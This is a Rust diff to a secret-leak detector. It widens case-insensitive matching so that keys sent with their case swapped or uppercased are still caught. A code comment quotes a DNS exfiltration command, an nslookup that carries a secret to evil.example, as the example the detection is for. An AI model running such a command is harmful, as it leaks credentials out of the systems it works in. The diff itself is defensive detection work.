@@ -162,7 +162,9 @@ fn variants(fields: &[SinkField], key: u64) -> Vec<Variant> {
         out.push(variant(&f.path, &f.text, "plain".into(), key));
         // DNS names are case-insensitive: a secret sent uppercased in a host label
         // (`nslookup Q8ZR3KT9....evil.example`) meets the lowercased windows recorded with it.
-        if has_uppercased_run(&f.text) {
+        // A key sent with its case changed (`SK_LIVE_51hX9k...`, swapped or upper) meets those
+        // lowercased windows too; texts past 64 KB are matched as sent.
+        if has_uppercased_run(&f.text) || (f.text.len() <= 64 * 1024 && has_mixed_case_token(&f.text)) {
             out.push(variant(&f.path, &f.text.to_ascii_lowercase(), "uppercased".into(), key));
         }
         let decoded = decode::decode_all(&f.text, &limits);
@@ -183,6 +185,16 @@ fn variants(fields: &[SinkField], key: u64) -> Vec<Variant> {
 }
 
 /// A run of 8 or more uppercase letters and digits, with both in it (not a constant's name).
+/// A token of 16+ letters, digits and `_-` holding both cases and a digit (a key's shape).
+fn has_mixed_case_token(text: &str) -> bool {
+    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-')).any(|t| {
+        t.len() >= 16
+            && t.bytes().any(|b| b.is_ascii_uppercase())
+            && t.bytes().any(|b| b.is_ascii_lowercase())
+            && t.bytes().any(|b| b.is_ascii_digit())
+    })
+}
+
 fn has_uppercased_run(text: &str) -> bool {
     let (mut run, mut letters, mut digits) = (0, false, false);
     for b in text.bytes() {
